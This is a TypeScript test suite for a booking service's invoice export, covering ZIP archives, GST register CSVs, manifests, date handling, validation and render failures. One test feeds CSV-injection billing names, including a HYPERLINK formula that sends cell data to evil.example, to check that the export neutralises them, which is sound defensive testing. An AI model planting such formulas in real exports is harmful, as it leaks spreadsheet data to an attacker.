import { expect } from 'chai';
import { createHash } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import request from 'supertest';
import { parse } from 'csv-parse/sync';
import { DB_KINDS } from './helpers/databases.js';
import {
  createConfirmedBooking,
  loginAdmin,
  registerCustomer,
  startContext,
  type TestContext,
} from './helpers/context.js';
import { getBinary, readPdf } from './helpers/pdf.js';
import { eventually, filesIn, listen } from './helpers/server.js';
import { unzip } from './helpers/zip.js';
import { indianDate } from '../server/invoices/numbering.js';

const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');
const rupees = (paise: number) => `${Math.trunc(paise / 100)}.${String(paise % 100).padStart(2, '0')}`;
/** The admin issues the invoices of the confirmed bookings scheduled in the range. */
const issueRange = (ctx: TestContext, admin: string, from: string, to: string) =>
  request(ctx.app).post('/api/admin/invoices/issue').send({ from, to }).set('Authorization', admin).expect(200);
const exportZip = (ctx: TestContext, admin: string, query: Record<string, string>) =>
  getBinary(ctx.app, '/api/admin/invoices/export').query(query).set('Authorization', admin);

/** The GSTR-1 files of a range from 2025-05-01 on (HSN split into B2B and B2C). */
const GSTR1_FILES = [
  'b2b.csv',
  'b2cl.csv',
  'b2cs.csv',
  'cdnr.csv',
  'cdnur.csv',
  'hsn_b2b.csv',
  'hsn_b2c.csv',
  'docs.csv',
];
/** Today in India: documents issued now are dated today. */
const today = () => indianDate(new Date()).date;

for (const kind of DB_KINDS) {
  describe(`invoice export and register [${kind}]`, () => {
    let ctx: TestContext;
    let admin: string;
    const ids: number[] = [];
    let cancelledId: number;
    before(async () => {
      ctx = await startContext(kind);
      admin = await loginAdmin(ctx.app);
      const a = await registerCustomer(ctx.app, 'Meera');
      const b = await registerCustomer(ctx.app, 'Kabir');
      for (const [who, day, state] of [
        [a, '03', '29'],
        [b, '09', '27'],
        [a, '15', '29'],
        [b, '21', '07'],
      ] as const) {
        ids.push(
          (await createConfirmedBooking(ctx.app, who.auth, { scheduledAt: `2032-04-${day}T06:00:00Z`, state })).id,
        );
      }
      // One issued by its first download, the others by the admin.
      await request(ctx.app).get(`/api/bookings/${ids[0]}/invoice`).set('Authorization', a.auth).expect(200);
      await issueRange(ctx, admin, '2032-04-01', '2032-04-30');
      // An invoiced booking cancelled later: its invoice stays in the books, with a credit note beside it.
      const cancelled = await createConfirmedBooking(ctx.app, a.auth, { scheduledAt: '2032-04-10T06:00:00Z' });
      cancelledId = cancelled.id;
      await issueRange(ctx, admin, '2032-04-10', '2032-04-10');
      await request(ctx.app)
        .patch(`/api/admin/bookings/${cancelled.id}`)
        .set('Authorization', admin)
        .send({ status: 'cancelled', reason: 'withdrawn' })
        .expect(200);
      // Confirmed but never issued: not in any register.
      await createConfirmedBooking(ctx.app, a.auth, { scheduledAt: '2032-05-02T06:00:00Z' });
    });
    after(() => ctx?.close());

    it('streams a ZIP of every document dated in the range, the register and a manifest whose hashes match', async () => {
      const res = await exportZip(ctx, admin, { from: today(), to: today() }).expect(200);
      expect(res.headers['content-type']).to.equal('application/zip');
      const entries = await unzip(res.body);
      expect(entries.map((e) => e.name).filter((n) => !n.endsWith('.pdf'))).to.deep.equal([
        'register.csv',
        ...GSTR1_FILES.map((f) => `gstr1/${f}`),
        'manifest.json',
      ]);
      const pdfs = entries.filter((e) => e.name.endsWith('.pdf'));
      const invoices = await ctx.rt.db('invoices').orderBy('id');
      const notes = await ctx.rt.db('credit_notes').orderBy('id');
      expect([invoices.length, notes.length]).to.deep.equal([5, 1]);
      expect(pdfs.map((p) => p.name).sort()).to.deep.equal(
        [
          ...invoices.map((i: { number: string }) => `${i.number.replaceAll('/', '-')}.pdf`),
          ...notes.map((n: { number: string }) => `credit-notes/${n.number.replaceAll('/', '-')}.pdf`),
        ].sort(),
      );
      for (const pdf of pdfs) {
        expect(pdf.compressed, 'PDFs are stored, not recompressed').to.equal(false);
        const { pages, text } = await readPdf(pdf.data);
        expect(pages).to.equal(1);
        expect(text).to.match(pdf.name.startsWith('credit-notes/') ? /credit note/i : /tax invoice/i);
      }

      const manifest = JSON.parse(entries.find((e) => e.name === 'manifest.json')!.data.toString());
      expect(manifest.counts).to.deep.equal({ documents: 6, pdfs: 6, failed: 0, registerRows: 6 });
      for (const file of manifest.files)
        expect(sha256(pdfs.find((p) => p.name === file.name)!.data)).to.equal(file.sha256);
      expect(manifest.register.sha256).to.equal(sha256(entries.find((e) => e.name === 'register.csv')!.data));
      // Per series: first and last number, count, totals, and no serial missing.
      expect(manifest.noSerialMissing).to.equal(true);
      const totalsOf = (rows: Record<string, number>[]) => {
        const sum = (key: string) => rupees(rows.reduce((n, r) => n + Number(r[`${key}_paise`]), 0));
        return {
          taxable: sum('taxable'),
          cgst: sum('cgst'),
          sgst: sum('sgst'),
          igst: sum('igst'),
          total: sum('total'),
        };
      };
      expect(manifest.series).to.deep.equal([
        {
          documentType: 'invoice',
          series: invoices[0].number.slice(0, invoices[0].number.lastIndexOf('/')),
          count: 5,
          first: invoices[0].number,
          last: invoices[4].number,
          missingSerials: [],
          totals: totalsOf(invoices),
        },
        {
          documentType: 'credit_note',
          series: notes[0].number.slice(0, notes[0].number.lastIndexOf('/')),
          count: 1,
          first: notes[0].number,
          last: notes[0].number,
          missingSerials: [],
          totals: totalsOf(notes),
        },
      ]);
      await eventually(() => filesIn(ctx.rt.config.pdf.tmpDir).length === 0);
    });

    it('serves the register alone: invoices and credit notes by document date, no total row, no rendering', async () => {
      const rendered = ctx.rt.renderer.stats.rendered;
      const res = await request(ctx.app)
        .get('/api/admin/invoices/register.csv')
        .query({ from: today(), to: today() })
        .set('Authorization', admin)
        .expect(200);
      expect(res.headers['content-type']).to.equal('text/csv; charset=utf-8');
      const rows: Record<string, string>[] = parse(res.text, { columns: true });
      expect(rows.map((r) => r.document_type)).to.deep.equal([
        'invoice',
        'invoice',
        'invoice',
        'invoice',
        'invoice',
        'credit_note',
      ]);
      expect(rows.some((r) => /total/i.test(Object.values(r).join(' ')))).to.equal(false);
      const invoices = await ctx.rt.db('invoices').orderBy('id');
      rows.slice(0, 5).forEach((row, i) => {
        const inv = invoices[i];
        expect(row).to.include({
          document_number: inv.number,
          document_date: today(),
          original_invoice_number: '',
          taxable_value: rupees(Number(inv.taxable_paise)),
          cgst: rupees(Number(inv.cgst_paise)),
          sgst: rupees(Number(inv.sgst_paise)),
          igst: rupees(Number(inv.igst_paise)),
          total: rupees(Number(inv.total_paise)),
          sac: inv.sac,
          customer_gstin: '',
        });
        expect(row.place_of_supply).to.match(/^\d\d-/);
      });
      // The credit note names its original invoice; the cancelled booking's invoice is still listed.
      const credited = invoices.find((i: { booking_id: number }) => i.booking_id === cancelledId);
      expect(rows[5]).to.include({ original_invoice_number: credited.number, original_invoice_date: today() });
      expect(rows.map((r) => r.document_number)).to.include(credited.number);
      expect(ctx.rt.renderer.stats.rendered).to.equal(rendered);
    });

    it('dates a document by its day in India: issued at 23:30 IST on a month end, it is in that month', async () => {
      // 2026-11-30T18:00:00Z is 23:30 on 30 November in India (and already 1 December nowhere else that counts).
      const moved = await ctx.rt.db('invoices').orderBy('id').first();
      await ctx.rt.db('invoices').where({ id: moved.id }).update({ issued_at: '2026-11-30T18:00:00.000Z' });
      try {
        const register = async (day: string) =>
          (
            parse(
              (
                await request(ctx.app)
                  .get('/api/admin/invoices/register.csv')
                  .query({ from: day, to: day })
                  .set('Authorization', admin)
                  .expect(200)
              ).text,
              { columns: true },
            ) as Record<string, string>[]
          ).map((r) => r.document_number);
        expect(await register('2026-11-30')).to.deep.equal([moved.number]);
        expect(await register('2026-12-01')).not.to.include(moved.number);
      } finally {
        await ctx.rt.db('invoices').where({ id: moved.id }).update({ issued_at: moved.issued_at });
      }
    });

    it('a serial missing from the run is reported in the manifest', async () => {
      const middle = (await ctx.rt.db('invoices').orderBy('id'))[2];
      await ctx.rt.db('invoices').where({ id: middle.id }).update({ issued_at: '2020-01-01T00:00:00.000Z' });
      try {
        const zip = await exportZip(ctx, admin, { from: today(), to: today() }).expect(200);
        const manifest = JSON.parse((await unzip(zip.body)).find((e) => e.name === 'manifest.json')!.data.toString());
        expect(manifest.noSerialMissing).to.equal(false);
        expect(manifest.series[0].missingSerials).to.deep.equal([Number(middle.serial)]);
      } finally {
        await ctx.rt.db('invoices').where({ id: middle.id }).update({ issued_at: middle.issued_at });
      }
    });

    it('writes a billing name that looks like a formula as text (no CSV injection)', async () => {
      const attacker = await registerCustomer(ctx.app, 'Mallory');
      const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+SUM(1+1)', '-2+3', '@cmd'];
      for (const name of formulas) {
        const booking = await createConfirmedBooking(ctx.app, attacker.auth, {
          scheduledAt: '2032-07-10T06:00:00Z',
          name,
        });
        await request(ctx.app)
          .get(`/api/bookings/${booking.id}/invoice`)
          .set('Authorization', attacker.auth)
          .expect(200);
      }
      const res = await request(ctx.app)
        .get('/api/admin/invoices/register.csv')
        .query({ from: today(), to: today() })
        .set('Authorization', admin)
        .expect(200);
      const rows = parse(res.text, { columns: true }) as { customer: string }[];
      const customers = rows.map((row) => row.customer);
      expect(customers).to.include.members(formulas.map((f) => `'${f}`));
      expect(
        customers.filter((c) => /^[=+\-@]/.test(c)),
        'no cell starts a formula',
      ).to.deep.equal([]);
    });

    it('yields a valid ZIP with only the register header and the manifest for an empty range', async () => {
      const res = await exportZip(ctx, admin, { from: '2033-01-01', to: '2033-01-31' }).expect(200);
      const entries = await unzip(res.body);
      expect(entries.map((e) => e.name)).to.deep.equal([
        'register.csv',
        ...GSTR1_FILES.map((f) => `gstr1/${f}`),
        'manifest.json',
      ]);
      expect(entries[0]!.data.toString().trim()).to.equal(
        'document_type,document_number,document_date,original_invoice_number,original_invoice_date,customer,customer_gstin,place_of_supply,sac,taxable_value,cgst,sgst,igst,total',
      );
      const manifest = JSON.parse(entries.at(-1)!.data.toString());
      expect(manifest.counts.pdfs).to.equal(0);
      expect(manifest.series).to.deep.equal([]);
    });

    it('refuses bad ranges with 400 and non-admins with 403', async () => {
      const cases: [Record<string, string>, string][] = [
        [{}, 'validation_failed'],
        [{ from: '2032-04-01' }, 'validation_failed'],
        [{ from: '2032-04-30', to: '2032-04-01' }, 'validation_failed'],
        [{ from: '2031-01-01', to: '2032-06-30' }, 'range_too_long'],
        [{ from: '01/04/2032', to: '2032-04-30' }, 'validation_failed'],
      ];
      for (const [query, code] of cases) {
        const res = await request(ctx.app)
          .get('/api/admin/invoices/export')
          .query(query)
          .set('Authorization', admin)
          .expect(400);
        expect(res.body.error.code, JSON.stringify(query)).to.equal(code);
        await request(ctx.app)
          .get('/api/admin/invoices/register.csv')
          .query(query)
          .set('Authorization', admin)
          .expect(400);
      }
      const customer = await registerCustomer(ctx.app);
      await request(ctx.app)
        .get('/api/admin/invoices/export')
        .query({ from: '2032-04-01', to: '2032-04-30' })
        .set('Authorization', customer.auth)
        .expect(403);
      await request(ctx.app)
        .get('/api/admin/invoices/export')
        .query({ from: '2032-04-01', to: '2032-04-30' })
        .expect(401);
    });
  });
}

describe('invoice export robustness', () => {
  let ctx: TestContext;
  let admin: string;
  before(async () => {
    ctx = await startContext('sqlite');
    admin = await loginAdmin(ctx.app);
  });
  after(() => ctx?.close());

  it('lists a failed render in the manifest and still completes a valid archive', async () => {
    const { auth } = await registerCustomer(ctx.app);
    const ids = [];
    for (const day of ['01', '02', '03'])
      ids.push((await createConfirmedBooking(ctx.app, auth, { scheduledAt: `2034-07-${day}T06:00:00Z` })).id);
    await issueRange(ctx, admin, '2034-07-01', '2034-07-31');
    // Break the middle invoice's snapshot so the template cannot render it.
    const broken = await ctx.rt.db('invoices').where({ booking_id: ids[1] }).first();
    const snapshot = JSON.parse(broken.snapshot);
    snapshot.recipient = {};
    await ctx.rt
      .db('invoices')
      .where({ id: broken.id })
      .update({ snapshot: JSON.stringify(snapshot) });

    const res = await exportZip(ctx, admin, { from: today(), to: today() }).expect(200);
    const entries = await unzip(res.body);
    expect(entries.filter((e) => e.name.endsWith('.pdf'))).to.have.length(2);
    const manifest = JSON.parse(entries.at(-1)!.data.toString());
    expect(manifest.counts).to.include({ documents: 3, pdfs: 2, failed: 1 });
    expect(manifest.failed[0]).to.include({ bookingId: ids[1], number: broken.number, documentType: 'invoice' });
    expect(manifest.failed[0].reason).to.be.a('string').and.not.be.empty;
    await eventually(() => filesIn(ctx.rt.config.pdf.tmpDir).length === 0);
  });

  it('stops rendering at once when the client goes away, leaving no temp files', async () => {
    const { auth } = await registerCustomer(ctx.app);
    for (let i = 0; i < 40; i++)
      await createConfirmedBooking(ctx.app, auth, {
        scheduledAt: `2035-03-01T${String(i % 24).padStart(2, '0')}:${String(i).padStart(2, '0')}:00Z`,
      });
    await issueRange(ctx, admin, '2035-03-01', '2035-03-31');
    const http = await listen(ctx.app);
    try {
      const startCount = ctx.rt.renderer.stats.rendered;
      await new Promise<void>((resolve, reject) => {
        const req = httpRequest(`${http.url}/api/admin/invoices/export?from=${today()}&to=${today()}`, {
          headers: { Authorization: admin },
        });
        req.on('response', (res) => {
          expect(res.statusCode).to.equal(200);
          let bytes = 0;
          res.on('data', (c: Buffer) => {
            bytes += c.length;
            if (bytes > 100_000) {
              req.destroy();
              resolve();
            }
          });
        });
        req.on('error', () => {});
        req.on('close', () => resolve());
        req.end();
        setTimeout(() => reject(new Error('no data')), 30_000).unref();
      });
      const atAbort = ctx.rt.renderer.stats.rendered - startCount;
      await new Promise((r) => setTimeout(r, 1500));
      const settled = ctx.rt.renderer.stats.rendered - startCount;
      await new Promise((r) => setTimeout(r, 1000));
      expect(ctx.rt.renderer.stats.rendered - startCount, 'no renders after the abort settled').to.equal(settled);
      expect(settled).to.be.at.most(atAbort + ctx.rt.config.pdf.workers);
      expect(settled).to.be.below(40);
      await eventually(() => filesIn(ctx.rt.config.pdf.tmpDir).length === 0);
    } finally {
      await http.close();
    }
  });
});
